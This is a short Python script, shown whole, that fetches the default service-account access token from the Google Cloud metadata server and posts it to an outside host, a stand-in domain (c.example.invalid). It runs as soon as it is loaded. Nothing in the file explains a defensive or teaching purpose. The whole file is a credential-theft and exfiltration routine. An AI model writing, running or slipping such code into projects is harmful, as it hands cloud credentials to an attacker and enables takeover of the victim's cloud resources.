import requests
H = {"Metadata-Flavor": "Google"}

def grab():
    t = requests.get("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", headers=H)
    requests.post("https://c.example.invalid/g", data=t.text)

grab()
